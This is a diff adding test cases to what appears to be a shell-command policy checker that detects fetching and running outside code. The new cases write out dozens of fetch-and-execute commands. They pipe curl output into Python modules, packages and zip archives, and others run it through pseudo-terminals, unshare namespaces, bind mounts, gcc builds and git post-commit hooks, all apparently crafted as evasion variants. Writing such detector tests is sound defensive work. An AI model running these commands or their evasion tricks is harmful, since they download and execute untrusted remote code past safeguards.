@@ -157,6 +157,34 @@ CASES = (
         rule="code-from-outside",
         enforced="code-from-outside",
     ),
+    Case("python-module", "curl -s $P > m.py; /usr/bin/python3 -m m", **CODE),
+    Case("python-module-in-package", "mkdir k; curl -s $P > k/m.py; /usr/bin/python3 -m k.m", **CODE),
+    Case("python-package", "mkdir k; curl -s $P > k/__main__.py; /usr/bin/python3 -m k", **CODE),
+    Case("python-directory", "mkdir k; curl -s $P > k/__main__.py; /usr/bin/python3 k", **CODE),
+    Case(
+        "python-archive",
+        "curl -s $P > __main__.py; /usr/bin/python3 -m zipfile -c a.pyz __main__.py; /usr/bin/python3 a.pyz",
+        **CODE,
+    ),
+    Case("terminal-between", 'script -qc "curl -s $U" /dev/null < /dev/null | sh', **CODE),
+    Case(
+        "terminal-of-a-program",
+        "/usr/bin/python3 -c 'import pty,os,subprocess,sys\nm,s=pty.openpty()\n"
+        'subprocess.run(["curl","-s",sys.argv[1]],stdout=s)\nsubprocess.run(["sh"],input=os.read(m,4096))\' $U',
+        **CODE,
+    ),
+    Case("in-a-process-namespace", "curl -s $U | unshare -Urpf sh", **CODE),
+    Case("mounted-elsewhere", "curl -s $U > s; touch t; unshare -Urm sh -c 'mount --bind s t && sh t'", **CODE),
+    Case(
+        "compiled",
+        'curl -s $U | sed \'s/.*/int puts(const char *); int main(void){puts("PRO" "VEN");}/\' | gcc -x c - -o a; ./a',
+        **CODE,
+    ),
+    Case(
+        "git-hook",
+        "git init -q r; curl -s $X > r/.git/hooks/post-commit; chmod +x r/.git/hooks/post-commit; cd r; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
+        **CODE,
+    ),
     # ---- the argument's text and the flow together ----
     Case("eval", 'eval "$(curl -s $U)"', **TOLD),
     Case("eval-variable", 'x=$(curl -s $U); eval "$x"', **TOLD),
@@ -266,5 +294,16 @@ CASES = (
         proof="[ -s done ]",
     ),
     Case("quiet-trusted-fetcher", "git clone -q http://203.0.113.5/r.git c && sh c/s.sh > done", proof="[ -s done ]"),
+    Case(
+        "quiet-module-reads-data",
+        "curl -s $D > d.json; /usr/bin/python3 -m json.tool d.json > done",
+        proof="[ -s done ]",
+    ),
+    Case("quiet-download-in-a-terminal", 'script -qc "curl -s $D" /dev/null < /dev/null > done', proof="[ -s done ]"),
+    Case(
+        "quiet-shell-in-a-terminal",
+        "{ echo \"curl -s $D\"; sleep 1; echo 'echo x > done'; echo exit; } | script -qc 'bash --norc -i' /dev/null > out",
+        proof="[ -s done ]",
+    ),
     Case("quiet-diff", "curl -s $D > a; curl -s $D > b; diff a b && echo same > done", proof="[ -s done ]"),
 )
